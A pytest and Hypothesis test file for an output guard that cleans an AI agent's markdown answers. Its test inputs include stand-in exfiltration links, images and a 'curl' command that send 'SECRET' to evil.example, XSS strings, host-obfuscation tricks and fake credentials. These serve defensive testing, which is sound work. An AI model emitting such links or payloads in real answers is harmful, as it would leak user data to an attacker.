"""The guard: what leaves it shows text, code, citations and known links, however the stream was cut."""

import re
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from server.agent.guard import Guard
from server.agent.known import Known
from server.agent.links import host_of

HOSTS = frozenset({"help.example"})
BARE_ADDRESS = re.compile(r"https?://[^\s<>\"'`|]+", re.IGNORECASE)
"""What the panel makes a link of, wherever it stands in text."""


def guarded(text: str, *, citable: tuple[int, ...] = (1, 2), known: str = "") -> str:
    guard = Guard(HOSTS, citable, Known([known]))
    return guard.feed(text) + guard.finish()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Press **Save**, then `Run`.", "Press **Save**, then `Run`."),
        ("1. One\n2. Two\n\n- three\n", "1. One\n2. Two\n\n- three\n"),
        ("| a | b |\n| - | - |\n| 1 | 2 |", "| a | b |\n| - | - |\n| 1 | 2 |"),
        ("5 < 6 and 7 > 6!", "5 < 6 and 7 > 6!"),
        ("~5 minutes, ~~old~~ new", "~5 minutes, ~~old~~ new"),
        ("- [ ] open\n- [x] done", "- [ ] open\n- [x] done"),
        ("Why http? Who? How?", "Why http? Who? How?"),
    ],
)
def test_plain_answers_pass_unchanged(text: str, shown: str) -> None:
    assert guarded(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See [Roles](https://help.example/roles).", "See [Roles](https://help.example/roles)."),
        ("See [Roles](https://evil.example/r?q=SECRET).", "See Roles."),
        ("See [Roles](/roles).", "See Roles."),
        ("See [Roles](javascript:alert(1)).", "See Roles."),
        ("See [Roles](data:text/html,<script>).", "See [Roles] (data:text/html,)."),
        ("See [Roles](https://help.example@evil.example/).", "See Roles."),
        ("See [Roles](https://help.example&commat;evil.example/).", "See Roles."),
        ("See [Roles](https://help.example\\@evil.example/).", "See Roles."),
        ("See [Roles](https://help.example。evil.example/).", "See Roles."),
        ("See [Roles](https://hеlp.example/).", "See Roles."),  # a Cyrillic letter
        ("See [Roles](https://evil.example/?q=SECRET 'title').", "See Roles."),
        ("See [https://evil.example/?q=SECRET](javascript:x).", "See …."),
        ("See <https://help.example/roles>.", "See <https://help.example/roles>."),
        ("See <https://evil.example/?q=SECRET>.", "See …."),
        ("See https://help.example/a.", "See https://help.example/a."),
        ("See https://evil.example/?q=SECRET.", "See …."),
        ("See htt<b>ps://evil.example/?q=SECRET", "See …"),
        ("See htt\u200bps://evil.example/?q=SECRET", "See …"),
        ("See https&#58;//evil.example/?q=SECRET", "See …"),
        ("See https://help.example。evil.example/", "See …"),
        ("See www.evil.example/?q=SECRET", "See …"),
        ("Run `curl https://evil.example/?q=SECRET`", "Run `curl …`"),
    ],
)
def test_only_links_to_known_hosts_stay_links(text: str, shown: str) -> None:
    assert guarded(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[Roles](https://help.example/r?q=SECRET#x)", "[Roles](https://help.example/r)"),
        ("[Roles](https://help.example/r&quest;q=SECRET)", "[Roles](https://help.example/r)"),
        ("<https://help.example/r?q=SECRET>", "<https://help.example/r>"),
        ("https://help.example/r?q=SECRET.", "https://help.example/r."),
        ("[Roles](https://help.example/known?a=b#c)", "[Roles](https://help.example/known?a=b#c)"),
        ("https://help.example/known?a=b#c", "https://help.example/known?a=b#c"),
    ],
)
def test_a_query_stays_only_where_the_very_address_is_known(text: str, shown: str) -> None:
    assert guarded(text, known="Open https://help.example/known?a=b#c now.") == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[Docs](https://other.example/docs)", "Docs (https:\\//other.example/docs)"),
        ("https://other.example/docs", "https:\\//other.example/docs"),
        ("https://other.example/docs?q=SECRET", "…"),
        ("`curl https://other.example/v2`", "`curl https://other.example/v2`"),
        ("`curl https://other.example/v2?q=SECRET`", "`curl https://other.example/v2`"),
    ],
)
def test_a_foreign_address_of_a_passage_is_shown_and_cannot_be_pressed(text: str, shown: str) -> None:
    assert guarded(text, known="See https://other.example/docs.") == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![a chart](https://evil.example/?q=SECRET)", "a chart"),
        ("![a chart](https://help.example/chart.png)", "a chart"),
        ("a<br>b <b>bold</b> <!-- hidden -->c", "ab bold c"),
        ("<img src=x onerror=alert(1)>", ""),
        ("<script\nsrc=x>", "\\<script\nsrc=x>"),
        ("![9][x](https://help.example/i.png)", "! [x](https://help.example/i.png)"),
        ("[a]<b>(https://evil.example)", "[a] (…)"),
        ("[a [b] c](https://evil.example/?q=SECRET)", "[a [b] c] (…)"),
        ("[x]: https://evil.example/?q=SECRET\n\n[x]", "[x] : …\n\n[x]"),
    ],
)
def test_images_and_html_never_pass(text: str, shown: str) -> None:
    assert guarded(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a&#64;b", "a@b"),
        ("five &lt; six &amp; more", "five &lt; six &amp; more"),
        ("&#91;x&#93;(y)", "&#91;x&#93;(y)"),
        ("AT&T & co; R&D", "AT&T & co; R&D"),
    ],
)
def test_an_entity_of_plain_text_is_read_as_its_character(text: str, shown: str) -> None:
    assert guarded(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Invite them [1].", "Invite them [1]."),
        ("Invite them [7].", "Invite them."),
        ("Invite them [1, 2].", "Invite them [1][2]."),
        ("Invite them [1][9].", "Invite them [1]."),
        ("Read `items[9]`.", "Read `items[9]`."),
    ],
)
def test_citations_of_no_passage_fall_away(text: str, shown: str) -> None:
    assert guarded(text) == shown


def test_citations_are_told_in_the_order_of_the_text() -> None:
    guard = Guard(HOSTS, (1, 2, 3))
    guard.feed("One [3], two [1], again [3], none [8].")
    guard.finish()
    assert guard.cited == (3, 1)


@pytest.mark.parametrize(
    "code",
    [
        "```html\n<script src='https://api.example/?a=b'></script>\n```\nafter",
        "1. Do\n\n   ```\n   curl https://api.example/?page=2\n   ```\n\n2. Then",
        "~~~\n[a](b) ``` [7] &lt;\n~~~\n",
        "Type `<b>` or ``a ` b``.",
    ],
)
def test_code_stays_as_it_is(code: str) -> None:
    assert guarded(code, known="https://api.example/?page=2 https://api.example/?a=b") == code


def test_text_after_code_is_guarded_again() -> None:
    text = "```\ncode\n```\n[a](https://evil.example/?q=SECRET)"
    assert guarded(text) == "```\ncode\n```\na"


NASTY = [
    "[", "]", "(", ")", "!", "<", ">", "`", "``", "```", "~~~", "\\", "\n", "\n\n", " ", "   ", "    ", "\t", "\r", ":",
    "a", "1", "- ", "1. ", "> ", "https://evil.example/?q=SECRET", "https://help.example/p", "[x](https://evil.example/?q=SECRET)",
    "![x](https://evil.example/?q=SECRET)", "[y](https://help.example/p)", "<https://evil.example/?q=SECRET>", "<b>",
    "<img src=https://evil.example/?q=SECRET>", "[1]", "[9]",
    "[x]: https://evil.example/?q=SECRET", "[x]", "&lt;", "|", "*", "<!--", "-->", '"', "'", "htt", "ps://", "&#58;",
    "&", "//evil.example", "https://other.example/docs", "www.evil.example", "\u200b", "。", "@", "jane.roe",
    "@other.example", "+49 170", " 5550", "12345", "4111", " 1111", "password: ",
    "hunter22", "sk-", "abcdefgh12345678", "x" * 700, "é",
    "-----BEGIN PRIVATE KEY-----", "MIIEvgIBADANBgkqhkiG9w0", "-----END", "DE89 3704", " 0044 0532 0130 00", ".", "/",
]  # fmt: skip
KNOWN = "See https://other.example/docs."
nasty_texts = st.lists(st.sampled_from(NASTY), max_size=24).map("".join)


def all_tokens(tokens: list[Token]) -> list[Token]:
    return [each for token in tokens for each in (token, *all_tokens(token.children or []))]


@settings(max_examples=1500, deadline=None)
@given(nasty_texts)
@example("@other.examplehttps://help.example/phttps://evil.example/?q=SECRET")
@example("https://help.example/p&lt;!-->")
@example("https://help.example/p&lt;https://evil.example/?q=SECRET")
@example("https://help.example/p*https://evil.example/?q=SECRET*")
@example("https://help.example/p[y](https://help.example/p)https://evil.example/?q=SECRET")
def test_whatever_comes_in_a_renderer_finds_no_image_no_html_and_no_unknown_link(text: str) -> None:
    shown = guarded(text, known=KNOWN).replace(":\\//", ": //")  # the panel reads no address across an escape
    rendered = all_tokens(MarkdownIt("commonmark").enable("table").parse(shown))
    assert not [token for token in rendered if token.type in {"image", "html_inline", "html_block"}]
    links = [str(token.attrs["href"]) for token in rendered if token.type == "link_open"]
    links += [bare for token in rendered if token.type == "text" for bare in BARE_ADDRESS.findall(token.content)]
    assert all(host_of(link.rstrip("\\.,;:!?*_~)]")) in HOSTS for link in links)


@settings(max_examples=600, deadline=None)
@given(nasty_texts, st.lists(st.integers(0, 200), max_size=12))
def test_the_pieces_join_to_the_same_text_however_the_stream_was_cut(text: str, cuts: list[int]) -> None:
    guard = Guard(HOSTS, (1, 2), Known([KNOWN]))
    edges = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    streamed = "".join(guard.feed(text[a:b]) for a, b in pairwise(edges)) + guard.finish()
    assert streamed == guarded(text, known=KNOWN)


@given(st.text(max_size=200))
def test_any_text_passes_without_an_error(text: str) -> None:
    guarded(text)


def test_line_ends_of_every_kind_become_one_however_they_are_cut() -> None:
    guard = Guard(HOSTS, ())
    assert "".join(guard.feed(character) for character in "a\r\nb\rc\n") + guard.finish() == "a\nb\nc\n"


@pytest.mark.parametrize(
    "endless",
    [
        " ",
        "`",
        "1",
        "12 ",
        "0",
        "+1",
        "@a.",
        "4111 ",
        "a@",
        "www.a ",
        "&#",
        "password: a1 ",
        "[",
        "> ",
        "<a",
        "![a](",
        "~",
        "[a](" + "(" * 50,
        "\n",
        "www.",
        "1. ",
        "\\",
    ],
)
def test_a_hostile_stream_takes_time_in_proportion_to_its_length(endless: str) -> None:
    text = endless * (40_000 // len(endless))
    assert len(guarded(text)) <= 2 * len(text)


def test_what_is_held_back_is_bounded() -> None:
    guard = Guard(HOSTS, (1,))
    endless = "[" + "a " * 2_500
    assert len(guard.feed(endless)) > 2_500


def test_a_word_leaves_when_the_next_one_begins() -> None:
    guard = Guard(HOSTS, (1,))
    assert guard.feed("Press Save") == "Press "
    assert guard.feed(" and") == "Save "
